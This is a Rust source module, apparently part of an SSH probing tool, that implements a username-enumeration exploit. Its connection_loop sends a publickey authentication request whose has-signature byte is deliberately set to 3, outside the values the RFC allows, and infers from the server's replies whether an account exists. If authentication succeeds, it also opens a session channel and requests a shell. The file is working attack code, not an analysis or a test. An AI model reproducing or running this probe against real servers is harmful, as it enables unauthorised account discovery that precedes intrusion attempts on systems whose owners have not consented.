use crate::encrypter::{Decrypter, Encrypter};
use crate::field::{Field, build_payload};
use crate::ssh_stream::{SshStream, parse_disconnect};
use crate::{
    Error, SSH_MAX_PACKET_SIZE, SSH_MSG_DISCONNECT, SSH_MSG_IGNORE, SSH_MSG_UNIMPLEMENTED, wire,
};
use base64::Engine;
use base64::engine::general_purpose::STANDARD as BASE64;
use std::fs;
use std::path::Path;

/// Requests the ssh-userauth service
pub const SSH_MSG_SERVICE_REQUEST: u8 = 5;
/// Grants a requested service
pub const SSH_MSG_SERVICE_ACCEPT: u8 = 6;
/// Carries one authentication attempt
pub const SSH_MSG_USERAUTH_REQUEST: u8 = 50;
/// Rejects an authentication attempt
pub const SSH_MSG_USERAUTH_FAILURE: u8 = 51;
/// Accepts an authentication attempt
pub const SSH_MSG_USERAUTH_SUCCESS: u8 = 52;
/// Free-form server banner, legal at any point of userauth
pub const SSH_MSG_USERAUTH_BANNER: u8 = 53;
/// Server challenge for interactive authentication data
pub const SSH_MSG_USERAUTH_INFO_REQUEST: u8 = 60;
/// Server-initiated request outside any channel
pub const SSH_MSG_GLOBAL_REQUEST: u8 = 80;
/// Negative reply to a global request
pub const SSH_MSG_REQUEST_FAILURE: u8 = 82;
/// Opens a channel
pub const SSH_MSG_CHANNEL_OPEN: u8 = 90;
/// Confirms a channel open
pub const SSH_MSG_CHANNEL_OPEN_CONFIRMATION: u8 = 91;
/// Grants more channel window to the peer
pub const SSH_MSG_CHANNEL_WINDOW_ADJUST: u8 = 93;
/// Requests something of an open channel, here a shell
pub const SSH_MSG_CHANNEL_REQUEST: u8 = 98;

/// Synthetic state preceding the first received userauth packet
const SSH_CONN_START: u8 = 0;

/// Channel number this client assigns to its single session channel
const LOCAL_CHANNEL: u32 = 0;

/// Tracks the packet types the server may legally send next.
///
/// States are named after the packet type most recently received once the
/// ssh-userauth service was requested; any packet outside the current
/// state's row terminates the probe.
pub struct Fsm {
    current: u8,
}

impl Fsm {
    pub fn new() -> Self {
        Fsm {
            current: SSH_CONN_START,
        }
    }

    /// The most recently accepted packet type
    pub fn current(&self) -> u8 {
        self.current
    }

    /// Accepts a received packet type or fails with the offending transition
    pub fn advance(&mut self, next: u8) -> Result<(), Error> {
        let allowed: &[u8] = match self.current {
            SSH_CONN_START => &[SSH_MSG_SERVICE_ACCEPT],
            SSH_MSG_SERVICE_ACCEPT => &[SSH_MSG_USERAUTH_FAILURE, SSH_MSG_USERAUTH_INFO_REQUEST],
            SSH_MSG_USERAUTH_FAILURE => &[
                SSH_MSG_SERVICE_ACCEPT,
                SSH_MSG_USERAUTH_FAILURE,
                SSH_MSG_USERAUTH_INFO_REQUEST,
            ],
            SSH_MSG_USERAUTH_INFO_REQUEST => &[
                SSH_MSG_SERVICE_ACCEPT,
                SSH_MSG_USERAUTH_INFO_REQUEST,
                SSH_MSG_USERAUTH_FAILURE,
                SSH_MSG_USERAUTH_SUCCESS,
            ],
            SSH_MSG_USERAUTH_SUCCESS => &[SSH_MSG_CHANNEL_OPEN_CONFIRMATION],
            SSH_MSG_CHANNEL_OPEN_CONFIRMATION => &[SSH_MSG_CHANNEL_WINDOW_ADJUST],
            _ => &[],
        };
        if !allowed.contains(&next) {
            return Err(Error::Fsm(self.current, next));
        }
        self.current = next;
        Ok(())
    }
}

/// The client's public key blob as sent in authentication requests
pub struct ClientKey {
    pub key_type: String,
    pub blob: Vec<u8>,
}

impl ClientKey {
    /// Reads `<ssh_dir>/<prefix>.pub` (`key-type SP base64 SP comment`).
    /// A missing or unparseable file falls back to a null ssh-rsa key, which
    /// is all the malformed probe needs.
    pub fn load(ssh_dir: &Path, prefix: &str) -> ClientKey {
        let path = ssh_dir.join(format!("{prefix}.pub"));
        if let Ok(text) = fs::read_to_string(&path) {
            let mut fields = text.split_whitespace();
            if let (Some(key_type), Some(encoded)) = (fields.next(), fields.next()) {
                if let Ok(blob) = BASE64.decode(encoded) {
                    return ClientKey {
                        key_type: key_type.to_string(),
                        blob,
                    };
                }
            }
            tracing::debug!(path = %path.display(), "unparseable public key, using null key");
        } else {
            tracing::debug!(path = %path.display(), "no public key file, using null key");
        }
        ClientKey {
            key_type: "ssh-rsa".to_string(),
            blob: Vec::new(),
        }
    }
}

/// Reciprocates bytes consumed from an open channel so the server's window
/// never runs dry. The probe tears the connection down right after its
/// channel opens, so in practice this stays idle.
pub fn send_window_adjust(
    stream: &mut SshStream,
    encrypter: &mut Encrypter,
    channel: u32,
    consumed: u32,
) -> Result<(), Error> {
    stream.send_packet(
        &build_payload(
            SSH_MSG_CHANNEL_WINDOW_ADJUST,
            &[Field::U32(channel), Field::U32(consumed)],
        ),
        Some(encrypter),
    )
}

/// Runs the userauth exchange that leaks whether the user exists.
///
/// The publickey request deliberately carries 3 in its has-signature byte
/// (the RFC allows only 0 or 1): servers that looked the user up answer the
/// broken attempt differently from ones that short-circuited on an unknown
/// name. USERAUTH_FAILURE before any info-request means the user does not
/// exist; an info-request, or the host closing the connection after one,
/// means it does.
pub fn connection_loop(
    stream: &mut SshStream,
    encrypter: &mut Encrypter,
    decrypter: &mut Decrypter,
    user: &str,
    key: &ClientKey,
) -> Result<bool, Error> {
    let mut fsm = Fsm::new();
    let mut seen_info_request = false;
    let mut window_size: u64 = 0;

    stream.send_packet(
        &build_payload(
            SSH_MSG_SERVICE_REQUEST,
            &[Field::LenString(b"ssh-userauth".to_vec())],
        ),
        Some(&mut *encrypter),
    )?;

    loop {
        let (msg_type, payload) = match stream.read_packet(Some(&mut *decrypter)) {
            Ok(packet) => packet,
            Err(Error::Closed) if seen_info_request => {
                tracing::debug!(user, "host closed after info-request, user present");
                return Ok(true);
            }
            Err(err) => return Err(err),
        };

        match msg_type {
            SSH_MSG_IGNORE => tracing::debug!("received SSH_MSG_IGNORE"),
            SSH_MSG_USERAUTH_BANNER => tracing::debug!("received SSH_MSG_USERAUTH_BANNER"),
            SSH_MSG_SERVICE_ACCEPT => {
                fsm.advance(SSH_MSG_SERVICE_ACCEPT)?;
                stream.send_packet(
                    &build_payload(
                        SSH_MSG_USERAUTH_REQUEST,
                        &[
                            Field::LenString(user.as_bytes().to_vec()),
                            Field::LenString(b"ssh-connection".to_vec()),
                            Field::LenString(b"publickey".to_vec()),
                            // 3 instead of 0 or 1: the malformed byte the
                            // oracle is built on
                            Field::U8(3),
                            Field::LenString(key.key_type.as_bytes().to_vec()),
                            Field::LenString(key.blob.clone()),
                        ],
                    ),
                    Some(&mut *encrypter),
                )?;
            }
            SSH_MSG_USERAUTH_INFO_REQUEST => {
                fsm.advance(SSH_MSG_USERAUTH_INFO_REQUEST)?;
                seen_info_request = true;
            }
            SSH_MSG_USERAUTH_FAILURE => {
                fsm.advance(SSH_MSG_USERAUTH_FAILURE)?;
                return Ok(seen_info_request);
            }
            SSH_MSG_USERAUTH_SUCCESS => {
                fsm.advance(SSH_MSG_USERAUTH_SUCCESS)?;
                stream.send_packet(
                    &build_payload(
                        SSH_MSG_CHANNEL_OPEN,
                        &[
                            Field::LenString(b"session".to_vec()),
                            Field::U32(LOCAL_CHANNEL),
                            Field::U32((SSH_MAX_PACKET_SIZE * 4) as u32),
                            Field::U32((SSH_MAX_PACKET_SIZE / 2) as u32),
                        ],
                    ),
                    Some(&mut *encrypter),
                )?;
            }
            SSH_MSG_CHANNEL_OPEN_CONFIRMATION => {
                fsm.advance(SSH_MSG_CHANNEL_OPEN_CONFIRMATION)?;
                let (local, rest) = wire::extract_u32(&payload)?;
                let (remote, rest) = wire::extract_u32(rest)?;
                let (initial_window, rest) = wire::extract_u32(rest)?;
                let (max_packet, _) = wire::extract_u32(rest)?;
                if local != LOCAL_CHANNEL {
                    return Err(Error::Protocol("channel number mismatch in confirmation"));
                }
                window_size += u64::from(initial_window);
                tracing::debug!(remote, window = window_size, max_packet, "channel open");
                stream.send_packet(
                    &build_payload(
                        SSH_MSG_CHANNEL_REQUEST,
                        &[
                            Field::U32(remote),
                            Field::LenString(b"shell".to_vec()),
                            Field::U8(1),
                        ],
                    ),
                    Some(&mut *encrypter),
                )?;
                return Ok(true);
            }
            SSH_MSG_CHANNEL_WINDOW_ADJUST => {
                fsm.advance(SSH_MSG_CHANNEL_WINDOW_ADJUST)?;
                let (_, rest) = wire::extract_u32(&payload)?;
                let (bytes_to_add, _) = wire::extract_u32(rest)?;
                window_size += u64::from(bytes_to_add);
            }
            SSH_MSG_GLOBAL_REQUEST => {
                tracing::debug!("received SSH_MSG_GLOBAL_REQUEST");
                stream.send_packet(
                    &build_payload(SSH_MSG_REQUEST_FAILURE, &[]),
                    Some(&mut *encrypter),
                )?;
            }
            SSH_MSG_UNIMPLEMENTED => {
                return Err(Error::Protocol("peer reported unimplemented message"));
            }
            SSH_MSG_DISCONNECT => return Err(parse_disconnect(&payload)),
            other => return Err(Error::Fsm(fsm.current(), other)),
        }
    }
}
